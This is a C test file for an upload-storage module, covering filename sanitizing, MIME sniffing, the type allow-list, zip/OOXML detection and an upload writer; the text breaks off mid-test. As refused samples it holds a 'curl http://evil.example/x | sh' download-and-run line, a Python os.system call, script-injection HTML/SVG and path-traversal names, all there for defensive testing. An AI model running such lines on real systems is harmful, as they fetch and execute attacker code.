/* Tests for upload storage: name sanitizing, content sniffing and the allow-list (real PNG,
 * JPEG, GIF, WebP, PDF and office files made here), and the size-limited upload writer. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <magic.h>
#include <openssl/evp.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "files/files.h"
#include "unit.h"

/* 1x1 grey PNG (IHDR, IDAT, IEND with valid CRCs). */
static const unsigned char png_1x1[] = {
    0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0x00, 0x0d, 0x49, 0x48,
    0x44, 0x52, 0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x00, 0x00, 0x00,
    0x00, 0x3a, 0x7e, 0x9b, 0x55, 0x00, 0x00, 0x00, 0x0a, 0x49, 0x44, 0x41, 0x54, 0x78,
    0x9c, 0x63, 0x38, 0x01, 0x00, 0x00, 0xca, 0x00, 0xc9, 0x99, 0xca, 0x5d, 0x7e, 0x00,
    0x00, 0x00, 0x00, 0x49, 0x45, 0x4e, 0x44, 0xae, 0x42, 0x60, 0x82,
};
/* 1x1 greyscale baseline JFIF, written by libjpeg-turbo at quality 50. */
static const unsigned char jpeg_1x1[] = {
    0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01,
    0x00, 0x01, 0x00, 0x00, 0xff, 0xdb, 0x00, 0x43, 0x00, 0x10, 0x0b, 0x0c, 0x0e, 0x0c, 0x0a, 0x10,
    0x0e, 0x0d, 0x0e, 0x12, 0x11, 0x10, 0x13, 0x18, 0x28, 0x1a, 0x18, 0x16, 0x16, 0x18, 0x31, 0x23,
    0x25, 0x1d, 0x28, 0x3a, 0x33, 0x3d, 0x3c, 0x39, 0x33, 0x38, 0x37, 0x40, 0x48, 0x5c, 0x4e, 0x40,
    0x44, 0x57, 0x45, 0x37, 0x38, 0x50, 0x6d, 0x51, 0x57, 0x5f, 0x62, 0x67, 0x68, 0x67, 0x3e, 0x4d,
    0x71, 0x79, 0x70, 0x64, 0x78, 0x5c, 0x65, 0x67, 0x63, 0xff, 0xc0, 0x00, 0x0b, 0x08, 0x00, 0x01,
    0x00, 0x01, 0x01, 0x01, 0x11, 0x00, 0xff, 0xc4, 0x00, 0x1f, 0x00, 0x00, 0x01, 0x05, 0x01, 0x01,
    0x01, 0x01, 0x01, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x01, 0x02, 0x03, 0x04,
    0x05, 0x06, 0x07, 0x08, 0x09, 0x0a, 0x0b, 0xff, 0xc4, 0x00, 0xb5, 0x10, 0x00, 0x02, 0x01, 0x03,
    0x03, 0x02, 0x04, 0x03, 0x05, 0x05, 0x04, 0x04, 0x00, 0x00, 0x01, 0x7d, 0x01, 0x02, 0x03, 0x00,
    0x04, 0x11, 0x05, 0x12, 0x21, 0x31, 0x41, 0x06, 0x13, 0x51, 0x61, 0x07, 0x22, 0x71, 0x14, 0x32,
    0x81, 0x91, 0xa1, 0x08, 0x23, 0x42, 0xb1, 0xc1, 0x15, 0x52, 0xd1, 0xf0, 0x24, 0x33, 0x62, 0x72,
    0x82, 0x09, 0x0a, 0x16, 0x17, 0x18, 0x19, 0x1a, 0x25, 0x26, 0x27, 0x28, 0x29, 0x2a, 0x34, 0x35,
    0x36, 0x37, 0x38, 0x39, 0x3a, 0x43, 0x44, 0x45, 0x46, 0x47, 0x48, 0x49, 0x4a, 0x53, 0x54, 0x55,
    0x56, 0x57, 0x58, 0x59, 0x5a, 0x63, 0x64, 0x65, 0x66, 0x67, 0x68, 0x69, 0x6a, 0x73, 0x74, 0x75,
    0x76, 0x77, 0x78, 0x79, 0x7a, 0x83, 0x84, 0x85, 0x86, 0x87, 0x88, 0x89, 0x8a, 0x92, 0x93, 0x94,
    0x95, 0x96, 0x97, 0x98, 0x99, 0x9a, 0xa2, 0xa3, 0xa4, 0xa5, 0xa6, 0xa7, 0xa8, 0xa9, 0xaa, 0xb2,
    0xb3, 0xb4, 0xb5, 0xb6, 0xb7, 0xb8, 0xb9, 0xba, 0xc2, 0xc3, 0xc4, 0xc5, 0xc6, 0xc7, 0xc8, 0xc9,
    0xca, 0xd2, 0xd3, 0xd4, 0xd5, 0xd6, 0xd7, 0xd8, 0xd9, 0xda, 0xe1, 0xe2, 0xe3, 0xe4, 0xe5, 0xe6,
    0xe7, 0xe8, 0xe9, 0xea, 0xf1, 0xf2, 0xf3, 0xf4, 0xf5, 0xf6, 0xf7, 0xf8, 0xf9, 0xfa, 0xff, 0xda,
    0x00, 0x08, 0x01, 0x01, 0x00, 0x00, 0x3f, 0x00, 0xe9, 0x2b, 0xff, 0xd9,
};
/* 1x1 GIF89a. */
static const unsigned char gif_1x1[] = {
    0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0x00, 0x00,
    0x00, 0xff, 0xff, 0xff, 0x21, 0xf9, 0x04, 0x01, 0x00, 0x00, 0x00, 0x00, 0x2c, 0x00, 0x00,
    0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b,
};
/* 1x1 lossless WebP (VP8L). */
static const unsigned char webp_1x1[] = {
    0x52, 0x49, 0x46, 0x46, 0x1a, 0x00, 0x00, 0x00, 0x57, 0x45, 0x42, 0x50,
    0x56, 0x50, 0x38, 0x4c, 0x0d, 0x00, 0x00, 0x00, 0x2f, 0x00, 0x00, 0x00,
    0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07, 0x00,
};

static const char pdf_min[] = "%PDF-1.4\n"
                              "1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
                              "2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
                              "trailer<</Root 1 0 R>>\n"
                              "%%EOF\n";

/* ---- names ---- */

static void check_name(const char *raw, size_t len, const char *want)
{
    char out[FILES_NAME_SIZE];
    int n = files_sanitize_name(raw, len, out, sizeof(out));
    CHECK_EQ_INT(n, strlen(want));
    CHECK_MEM(out, n < 0 ? 0 : (size_t)n, want);
    if (n >= 0) CHECK(out[n] == '\0');
}

#define NAME(lit, want) check_name((lit), sizeof(lit) - 1, (want))

static void test_name_paths(void)
{
    NAME("photo.png", "photo.png");
    NAME("../../etc/passwd", "passwd");
    NAME("../", "file");
    NAME("..", "file");
    NAME(".", "file");
    NAME("...", "file");
    NAME("/", "file");
    NAME("dir/", "file");
    NAME("..\\..\\windows\\system32\\cmd.exe", "cmd.exe");
    NAME("C:\\Users\\me\\Desktop\\lease.pdf", "lease.pdf");
    NAME("a/b\\c/d.txt", "d.txt");
    /* "%2e%2e%2f" as sent is harmless text; decoded by a caller it is "../" */
    NAME("%2e%2e%2fetc%2fpasswd", "%2e%2e%2fetc%2fpasswd");
    NAME("../etc/passwd", "passwd");
    NAME("%2e%2e%2f", "%2e%2e%2f");
    NAME(".bashrc", "bashrc");
    NAME("..hidden", "hidden");
    NAME(". . .x", "x");
    NAME("a..b", "a.b");
    NAME("a...b....c", "a.b.c");
    NAME("a. .b", "a. .b");
    NAME("report.", "report.");
    NAME("", "file");
    check_name(NULL, 0, "file");
}

static void test_name_controls(void)
{
    NAME("evil.png\0.exe", "evil.png.exe");
    NAME("\0\0\0", "file");
    NAME("a\x01\x1f\x7f"
         "b.txt",
         "ab.txt");
    NAME("line\r\nbreak.txt", "line break.txt");
    NAME("tab\there.txt", "tab here.txt");
    NAME("  lots   of \t\n spaces  .txt  ", "lots of spaces .txt");
    NAME("c1\xc2\x85\xc2\x9f"
         "x",
         "c1x"); /* U+0085, U+009F */
    NAME("gnp\xe2\x80\xae"
         "exe.png",
         "gnpexe.png"); /* RIGHT-TO-LEFT OVERRIDE */
    NAME("a\xe2\x81\xa6"
         "b\xe2\x81\xa9",
         "ab");                                             /* isolates */
    NAME("zero\xe2\x80\x8bwidth\xef\xbb\xbf", "zerowidth"); /* ZWSP, BOM */
    NAME("nb\xc2\xa0sp\xe3\x80\x80x", "nb sp x");           /* NBSP, ideographic space */
}

static void test_name_unicode(void)
{
    NAME("caf\xc3\xa9 \xe2\x82\xac.pdf", "caf\xc3\xa9 \xe2\x82\xac.pdf");
    NAME("\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e.txt", "\xe6\x97\xa5\xe6\x9c\xac\xe8\xaa\x9e.txt");
    NAME("\xf0\x9f\x93\xb7 photo.jpg", "\xf0\x9f\x93\xb7 photo.jpg");
    /* invalid UTF-8: stray bytes, overlong "/" and ".", surrogate, past U+10FFFF, truncated */
    NAME("a\xff"
         "b",
         "a\xef\xbf\xbd"
         "b");
    NAME("\xc0\xaf"
         "x",
         "\xef\xbf\xbd\xef\xbf\xbdx");
    NAME("x\xc0\xae\xc0\xae", "x\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
    NAME("\xed\xa0\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
    NAME("\xf4\x90\x80\x80", "\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd\xef\xbf\xbd");
    NAME("ab\xe2\x82", "ab\xef\xbf\xbd\xef\xbf\xbd");
}

static bool valid_utf8(const char *s, size_t n)
{
    const unsigned char *u = (const unsigned char *)s;
    for (size_t i = 0; i < n;) {
        size_t k = u[i] < 0x80 ? 1 : u[i] >= 0xF0 ? 4 : u[i] >= 0xE0 ? 3 : u[i] >= 0xC2 ? 2 : 0;
        if (k == 0 || i + k > n) return false;
        for (size_t j = 1; j < k; j++) {
            if ((u[i + j] & 0xC0) != 0x80) return false;
        }
        i += k;
    }
    return true;
}

static void test_name_length(void)
{
    char raw[1200], out[FILES_NAME_SIZE], want[FILES_NAME_SIZE];
    /* 500 characters: cut to 200 */
    memset(raw, 'a', 500);
    CHECK_EQ_INT(files_sanitize_name(raw, 500, out, sizeof(out)), 200);
    CHECK(strspn(out, "a") == 200);
    /* 200 exactly is kept whole, 201 is cut */
    CHECK_EQ_INT(files_sanitize_name(raw, 200, out, sizeof(out)), 200);
    CHECK_EQ_INT(files_sanitize_name(raw, 201, out, sizeof(out)), 200);
    /* a long name keeps its extension */
    memcpy(raw + 500, ".pdf", 4);
    CHECK_EQ_INT(files_sanitize_name(raw, 504, out, sizeof(out)), 200);
    memset(want, 'a', 196);
    memcpy(want + 196, ".pdf", 5);
    CHECK_MEM(out, strlen(out), want);
    /* ... but not a long "extension" */
    memset(raw + 500, 'b', 30);
    raw[499] = '.';
    CHECK_EQ_INT(files_sanitize_name(raw, 530, out, sizeof(out)), 200);
    CHECK(strspn(out, "a") == 200);
    /* the stem's trailing dots and spaces go before the extension is put back */
    memset(raw, 'a', 500);
    memcpy(raw + 195, " ...", 4);
    memcpy(raw + 500, ".pdf", 4);
    CHECK_EQ_INT(files_sanitize_name(raw, 504, out, sizeof(out)), 199);
    CHECK(strspn(out, "a") == 195 && strcmp(out + 195, ".pdf") == 0);
    /* multi-byte characters are never split: 2-, 3- and 4-byte ones at every alignment */
    static const char *const chars[] = {"\xc3\xa9", "\xe2\x82\xac", "\xf0\x9f\x93\xb7"};
    for (size_t c = 0; c < 3; c++) {
        for (size_t lead = 0; lead < 4; lead++) {
            size_t cl = strlen(chars[c]), n = lead;
            memset(raw, 'x', lead);
            while (n + cl <= 1000) {
                memcpy(raw + n, chars[c], cl);
                n += cl;
            }
            int r = files_sanitize_name(raw, n, out, sizeof(out));
            CHECK(r > 200 - (int)cl && r <= 200);
            CHECK(valid_utf8(out, (size_t)r));
        }
    }
    /* smaller buffers bound the result too; under 5 bytes is refused */
    CHECK_EQ_INT(files_sanitize_name("abcdefgh.txt", 12, out, 8), 7);
    CHECK_MEM(out, strlen(out), "abc.txt");
    CHECK_EQ_INT(files_sanitize_name("abcdefgh.txt", 12, out, 6), 5);
    CHECK_MEM(out, strlen(out), "abcde"); /* no room for a stem and the extension */
    CHECK_EQ_INT(files_sanitize_name("abcdefghijkl.txt", 16, out, 12), 11);
    CHECK_MEM(out, strlen(out), "abcdefg.txt");
    CHECK_EQ_INT(files_sanitize_name("..", 2, out, 5), 4);
    CHECK_MEM(out, strlen(out), "file");
    CHECK_EQ_INT(files_sanitize_name("a", 1, out, 4), FILES_ERR_INVALID);
    CHECK_EQ_INT(files_sanitize_name("a", 1, NULL, 100), FILES_ERR_INVALID);
    /* invalid bytes grow threefold as U+FFFD: still bounded */
    memset(raw, 0xff, 1000);
    CHECK_EQ_INT(files_sanitize_name(raw, 1000, out, sizeof(out)), 198);
}

/* Every output, whatever the input, is bounded UTF-8 without separators, controls or "..". */
static void test_name_invariants(void)
{
    char raw[300], out[FILES_NAME_SIZE];
    uint32_t s = 99;
    static const unsigned char pool[] = {'a',  '.',  '.',  '/',  '\\', ' ',  '\t', 0,    0x7f, 0xc3,
                                         0xa9, 0xe2, 0x80, 0xae, 0xff, 0xf0, 0x9f, 0x93, '%'};
    int bad = 0;
    for (int iter = 0; iter < 20000; iter++) {
        s = s * 1103515245u + 12345u;
        size_t n = (s >> 16) % sizeof(raw);
        for (size_t i = 0; i < n; i++) {
            s = s * 1103515245u + 12345u;
            raw[i] = (char)pool[(s >> 16) % sizeof(pool)];
        }
        int r = files_sanitize_name(raw, n, out, sizeof(out));
        if (r < 1 || r > FILES_NAME_MAX || out[r] != '\0' || strlen(out) != (size_t)r ||
            !valid_utf8(out, (size_t)r) || strchr(out, '/') || strchr(out, '\\') ||
            strstr(out, "..") || out[0] == '.' || out[0] == ' ' || out[r - 1] == ' ') {
            bad++;
        }
        for (int i = 0; i < r; i++) {
            if ((unsigned char)out[i] < 0x20 || out[i] == 0x7f) bad++;
        }
        if (strstr(out, "\xe2\x80\xae")) bad++;
    }
    CHECK_EQ_INT(bad, 0);
}

/* ---- sniffing ---- */

static void check_sniff(const void *buf, size_t len, const char *want, bool allowed)
{
    char mime[FILES_MIME_SIZE] = "";
    CHECK_EQ_INT(files_sniff_buffer(buf, len, mime, sizeof(mime)), 0);
    CHECK_MEM(mime, strlen(mime), want);
    CHECK(files_mime_allowed(mime, NULL) == allowed);
}

static void test_sniff_media(void)
{
    check_sniff(png_1x1, sizeof(png_1x1), "image/png", true);
    check_sniff(jpeg_1x1, sizeof(jpeg_1x1), "image/jpeg", true);
    check_sniff(gif_1x1, sizeof(gif_1x1), "image/gif", true);
    check_sniff(webp_1x1, sizeof(webp_1x1), "image/webp", true);
    check_sniff(pdf_min, sizeof(pdf_min) - 1, "application/pdf", true);
    check_sniff("Rent receipt, March: 850 EUR\n", 29, "text/plain", true);
    /* libmagic 5.44 calls simple CSV text/plain (text/csv is on the list for other versions) */
    check_sniff("date,amount\n2024-03-01,850\n2024-04-01,850\n", 41, "text/plain", true);
}

static void test_sniff_refused(void)
{
    static const char sh[] = "#!/bin/sh\ncurl http://evil.example/x | sh\n";
    check_sniff(sh, sizeof(sh) - 1, "text/x-shellscript", false);
    static const char py[] = "#!/usr/bin/env python3\nimport os\nos.system('id')\n";
    check_sniff(py, sizeof(py) - 1, "text/x-script.python", false);
    /* libmagic alone calls this text/plain: plain text starting with "#!" is refused */
    static const char odd[] = "#!foo\nhello world\n";
    check_sniff(odd, sizeof(odd) - 1, "text/x-script", false);
    check_sniff("#!", 2, "text/x-script", false);
    static const char html[] = "<html><body><script>alert(1)</script></body></html>\n";
    check_sniff(html, sizeof(html) - 1, "text/html", false);
    static const char svg[] = "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)"
                              "</script></svg>\n";
    check_sniff(svg, sizeof(svg) - 1, "image/svg+xml", false);
    static const unsigned char elf[64] = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0, [16] = 2, 0, 0x3e, 0, 1};
    check_sniff(elf, sizeof(elf), "application/x-executable", false);
    check_sniff("", 0, "application/x-empty", false);
    check_sniff(NULL, 0, "application/x-empty", false);
    /* an output buffer too small for the type */
    char mime[8];
    CHECK_EQ_INT(files_sniff_buffer(png_1x1, sizeof(png_1x1), mime, sizeof(mime)),
                 FILES_ERR_INVALID); /* "image/png" needs 10 bytes */
}

/* A stored (uncompressed) zip with valid CRCs, built in memory. */
typedef struct {
    unsigned char buf[8192];
    size_t len;
    unsigned char cd[4096];
    size_t cd_len;
    unsigned entries;
} zip_t;

static uint32_t crc32_of(const void *p, size_t n)
{
    const unsigned char *b = p;
    uint32_t c = 0xFFFFFFFFu;
    for (size_t i = 0; i < n; i++) {
        c ^= b[i];
        for (int k = 0; k < 8; k++) c = c >> 1 ^ (0xEDB88320u & (0u - (c & 1)));
    }
    return ~c;
}

static void put16(unsigned char *p, uint32_t v)
{
    p[0] = (unsigned char)v;
    p[1] = (unsigned char)(v >> 8);
}

static void put32(unsigned char *p, uint32_t v)
{
    put16(p, v & 0xFFFF);
    put16(p + 2, v >> 16);
}

static void zip_add(zip_t *z, const char *name, const char *data)
{
    size_t nl = strlen(name), dl = strlen(data);
    uint32_t crc = crc32_of(data, dl), off = (uint32_t)z->len;
    unsigned char *h = z->buf + z->len;
    memset(h, 0, 30);
    memcpy(h, "PK\3\4", 4);
    put16(h + 4, 20);
    put32(h + 14, crc);
    put32(h + 18, (uint32_t)dl);
    put32(h + 22, (uint32_t)dl);
    put16(h + 26, (uint32_t)nl);
    memcpy(h + 30, name, nl);
    memcpy(h + 30 + nl, data, dl);
    z->len += 30 + nl + dl;
    unsigned char *c = z->cd + z->cd_len;
    memset(c, 0, 46);
    memcpy(c, "PK\1\2", 4);
    put16(c + 4, 20);
    put16(c + 6, 20);
    put32(c + 16, crc);
    put32(c + 20, (uint32_t)dl);
    put32(c + 24, (uint32_t)dl);
    put16(c + 28, (uint32_t)nl);
    put32(c + 42, off);
    memcpy(c + 46, name, nl);
    z->cd_len += 46 + nl;
    z->entries++;
}

static void zip_close(zip_t *z, const char *comment)
{
    size_t cl = strlen(comment);
    uint32_t cd_off = (uint32_t)z->len;
    memcpy(z->buf + z->len, z->cd, z->cd_len);
    z->len += z->cd_len;
    unsigned char *e = z->buf + z->len;
    memset(e, 0, 22);
    memcpy(e, "PK\5\6", 4);
    put16(e + 8, z->entries);
    put16(e + 10, z->entries);
    put32(e + 12, (uint32_t)z->cd_len);
    put32(e + 16, cd_off);
    put16(e + 20, (uint32_t)cl);
    memcpy(e + 22, comment, cl);
    z->len += 22 + cl;
}

static const char content_types[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
    "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"rels\" "
    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
    "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
static const char rels[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
    "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
    "relationships/officeDocument\" Target=\"word/document.xml\"/></Relationships>";
static const char document[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
    "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
    "<w:body><w:p><w:r><w:t>Lease</w:t></w:r></w:p></w:body></w:document>";

#define DOCX_MIME "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
#define XLSX_MIME "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#define PPTX_MIME "application/vnd.openxmlformats-officedocument.presentationml.presentation"

static zip_t zip;

static const char *raw_libmagic(const void *buf, size_t len)
{
    static char out[128];
    magic_t m = magic_open(MAGIC_MIME_TYPE);
    magic_load(m, NULL);
    snprintf(out, sizeof(out), "%s", magic_buffer(m, buf, len));
    magic_close(m);
    return out;
}

static void test_sniff_office(void)
{
    /* Word's own order: [Content_Types].xml first. Debian 12's libmagic (5.44) knows it. */
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "[Content_Types].xml", content_types);
    zip_add(&zip, "_rels/.rels", rels);
    zip_add(&zip, "word/document.xml", document);
    zip_close(&zip, "");
    const char *lm = raw_libmagic(zip.buf, zip.len);
    fprintf(stderr, "  libmagic on a docx, [Content_Types].xml first: %s\n", lm);
    check_sniff(zip.buf, zip.len, DOCX_MIME, true);

    /* _rels/.rels first (as some generators write it): libmagic 5.44 says application/zip;
     * the central directory check makes it a docx. */
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "_rels/.rels", rels);
    zip_add(&zip, "[Content_Types].xml", content_types);
    zip_add(&zip, "word/document.xml", document);
    zip_close(&zip, "a comment");
    lm = raw_libmagic(zip.buf, zip.len);
    fprintf(stderr, "  libmagic on a docx, _rels/.rels first: %s\n", lm);
    CHECK(strcmp(lm, "application/zip") == 0 || strcmp(lm, DOCX_MIME) == 0);
    check_sniff(zip.buf, zip.len, DOCX_MIME, true);

    /* xlsx with docProps before xl/: application/zip for libmagic 5.44 */
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "[Content_Types].xml", "<Types/>");
    zip_add(&zip, "_rels/.rels", rels);
    zip_add(&zip, "docProps/app.xml", "<Properties/>");
    zip_add(&zip, "xl/workbook.xml", "<workbook/>");
    zip_close(&zip, "");
    check_sniff(zip.buf, zip.len, XLSX_MIME, true);

    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "_rels/.rels", rels);
    zip_add(&zip, "[Content_Types].xml", "<Types/>");
    zip_add(&zip, "ppt/presentation.xml", "<p/>");
    zip_close(&zip, "");
    check_sniff(zip.buf, zip.len, PPTX_MIME, true);

    /* macros: a docm is refused, in either entry order */
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "[Content_Types].xml", content_types);
    zip_add(&zip, "_rels/.rels", rels);
    zip_add(&zip, "word/document.xml", document);
    zip_add(&zip, "word/vbaProject.bin", "\xd0\xcf\x11\xe0");
    zip_close(&zip, "");
    check_sniff(zip.buf, zip.len, "application/vnd.ms-word.document.macroEnabled.12", false);

    /* OpenDocument: "mimetype" stored first, as the spec requires */
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "mimetype", "application/vnd.oasis.opendocument.text");
    zip_add(&zip, "content.xml", "<office:document-content/>");
    zip_close(&zip, "");
    check_sniff(zip.buf, zip.len, "application/vnd.oasis.opendocument.text", true);

    /* a plain zip, and a zip that only names word/document.xml (libmagic: docx), are zips */
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "hello.txt", "hi");
    zip_close(&zip, "");
    check_sniff(zip.buf, zip.len, "application/zip", false);
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "word/document.xml", document);
    zip_add(&zip, "payload.exe", "MZ");
    zip_close(&zip, "");
    check_sniff(zip.buf, zip.len, "application/zip", false);
}

static void test_zip_parser(void)
{
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "[Content_Types].xml", "x");
    zip_add(&zip, "word/document.xml", "y");
    zip_close(&zip, "zz");
    uint64_t off = 0, len = 0;
    CHECK_EQ_INT(files_zip_find_cd(zip.buf, zip.len, zip.len, &off, &len), 0);
    CHECK_EQ_INT(off, zip.len - 24 - zip.cd_len);
    CHECK_EQ_INT(len, zip.cd_len);
    CHECK(files_zip_ooxml_mime(zip.buf + off, (size_t)len) != NULL);
    /* a tail that is only the end of the file */
    CHECK_EQ_INT(files_zip_find_cd(zip.buf + 10, zip.len - 10, zip.len, &off, &len), 0);
    /* trailing garbage after the record, a wrong comment length, truncation */
    CHECK_EQ_INT(files_zip_find_cd(zip.buf, zip.len - 1, zip.len - 1, &off, &len), -1);
    CHECK_EQ_INT(files_zip_find_cd(zip.buf, 21, 21, &off, &len), -1);
    CHECK_EQ_INT(files_zip_find_cd(zip.buf, zip.len, zip.len - 1, &off, &len), -1);
    /* a directory said to lie past the record */
    unsigned char bad[sizeof(zip.buf)];
    memcpy(bad, zip.buf, zip.len);
    put32(bad + zip.len - 24 + 16, (uint32_t)zip.len);
    CHECK_EQ_INT(files_zip_find_cd(bad, zip.len, zip.len, &off, &len), -1);
    memcpy(bad, zip.buf, zip.len);
    put32(bad + zip.len - 24 + 12, 0xFFFFFFFFu); /* zip64 marker */
    CHECK_EQ_INT(files_zip_find_cd(bad, zip.len, zip.len, &off, &len), -1);
    /* a truncated or corrupt central directory */
    CHECK(files_zip_ooxml_mime(zip.cd, zip.cd_len - 1) == NULL);
    CHECK(files_zip_ooxml_mime(zip.cd, 45) == NULL);
    CHECK(files_zip_ooxml_mime(zip.cd + 1, zip.cd_len - 1) == NULL);
    CHECK(files_zip_ooxml_mime(zip.cd, 0) == NULL);
}

static void test_mime_allowed(void)
{
    CHECK(files_mime_allowed("image/png", NULL));
    CHECK(files_mime_allowed("application/vnd.oasis.opendocument.spreadsheet", NULL));
    CHECK(files_mime_allowed("application/vnd.ms-excel", NULL));
    CHECK(files_mime_allowed("application/msword", NULL));
    CHECK(files_mime_allowed("IMAGE/PNG", NULL));
    CHECK(!files_mime_allowed("image/pn", NULL));
    CHECK(!files_mime_allowed("image/pngx", NULL));
    CHECK(!files_mime_allowed("text/plain2", NULL));
    CHECK(!files_mime_allowed("text/x-shellscript", NULL));
    CHECK(!files_mime_allowed("image/svg+xml", NULL));
    CHECK(!files_mime_allowed("application/zip", NULL));
    CHECK(!files_mime_allowed("application/octet-stream", NULL));
    CHECK(!files_mime_allowed("", NULL));
    CHECK(!files_mime_allowed(NULL, NULL));
    CHECK(files_mime_allowed("image/gif", " image/png , image/gif ,"));
    CHECK(!files_mime_allowed("application/pdf", " image/png , image/gif ,"));
    CHECK(files_mime_allowed("image/heic", "image/*"));
    CHECK(files_mime_allowed("image/heic", "application/pdf,image/*"));
    CHECK(!files_mime_allowed("image", "image/*"));
    CHECK(!files_mime_allowed("image/", "image/*"));
    CHECK(!files_mime_allowed("imagex/png", "image/*"));
    CHECK(!files_mime_allowed("image/png", ""));
    CHECK(!files_mime_allowed("image/png", ",,"));
    CHECK(!files_mime_allowed("*/*", "image/png"));
    CHECK(files_mime_is_image("image/png") && files_mime_is_image("image/webp"));
    CHECK(files_mime_is_image("image/jpeg") && files_mime_is_image("image/gif"));
    CHECK(!files_mime_is_image("image/svg+xml") && !files_mime_is_image("application/pdf"));
    CHECK(!files_mime_is_image(NULL));
}

/* ---- storage ---- */

static char root[64];

static int count_entries(const char *path)
{
    DIR *d = opendir(path);
    if (!d) return -1;
    int n = 0;
    struct dirent *de;
    while ((de = readdir(d)) != NULL) n += de->d_name[0] != '.';
    closedir(d);
    return n;
}

static int tmp_count(void)
{
    char p[128];
    snprintf(p, sizeof(p), "%s/tmp", root);
    return count_entries(p);
}

static void sha256_hex(const void *p, size_t n, char out[65])
{
    unsigned char md[32];
    unsigned int l;
    EVP_Digest(p, n, md, &l, EVP_sha256(), NULL);
    for (int i = 0; i < 32; i++) snprintf(out + 2 * i, 3, "%02x", md[i]);
}

static bool file_equals(const char *path, const void *p, size_t n)
{
    FILE *f = fopen(path, "rb");
    if (!f) return false;
    unsigned char buf[8192];
    size_t got = fread(buf, 1, sizeof(buf), f);
    bool eof = fgetc(f) == EOF;
    fclose(f);
    return eof && got == n && memcmp(buf, p, n) == 0;
}

/* Uploads in pieces of `step` bytes; returns finish's result with the outputs. */
static int upload(const void *data, size_t len, size_t step, uint64_t max, char id[ID_SIZE],
                  char sha[65], uint64_t *size, char mime[FILES_MIME_SIZE])
{
    char err[256];
    files_upload_t *u = files_upload_begin(root, max, err, sizeof(err));
    CHECK(u != NULL);
    if (!u) return -100;
    const char *p = data;
    for (size_t off = 0; off < len; off += step) {
        size_t n = len - off < step ? len - off : step;
        int rc = files_upload_write(u, p + off, n);
        if (rc < 0) {
            CHECK_EQ_INT(tmp_count(), 0); /* deleted at once, before finish */
            break;
        }
    }
    return files_upload_finish(u, NULL, id, sha, size, mime, FILES_MIME_SIZE);
}

static void check_roundtrip(const void *data, size_t len, const char *want_mime)
{
    char id[ID_SIZE], sha[65], want_sha[65], mime[FILES_MIME_SIZE], path[256];
    uint64_t size = 0;
    CHECK_EQ_INT(upload(data, len, 7, 10 << 20, id, sha, &size, mime), 0);
    CHECK(id_valid(str_cstr(id)));
    sha256_hex(data, len, want_sha);
    CHECK_MEM(sha, strlen(sha), want_sha);
    CHECK_EQ_INT(size, len);
    CHECK_MEM(mime, strlen(mime), want_mime);
    CHECK_EQ_INT(files_path(root, id, path, sizeof(path)), strlen(root) + 4 + ID_LEN);
    CHECK(file_equals(path, data, len));
    struct stat st;
    CHECK(stat(path, &st) == 0 && (st.st_mode & 0777) == 0600);
    char sub[128];
    snprintf(sub, sizeof(sub), "%s/%.2s", root, id + ID_LEN - 2);
    CHECK(stat(sub, &st) == 0 && (st.st_mode & 0777) == 0700);
    CHECK_EQ_INT(tmp_count(), 0);
    char sniffed[FILES_MIME_SIZE];
    CHECK_EQ_INT(files_sniff_path(path, sniffed, sizeof(sniffed)), 0);
    CHECK_MEM(sniffed, strlen(sniffed), want_mime);
}

static void test_upload_roundtrip(void)
{
    check_roundtrip(png_1x1, sizeof(png_1x1), "image/png");
    check_roundtrip(jpeg_1x1, sizeof(jpeg_1x1), "image/jpeg");
    check_roundtrip(pdf_min, sizeof(pdf_min) - 1, "application/pdf");
    memset(&zip, 0, sizeof(zip));
    zip_add(&zip, "_rels/.rels", rels);
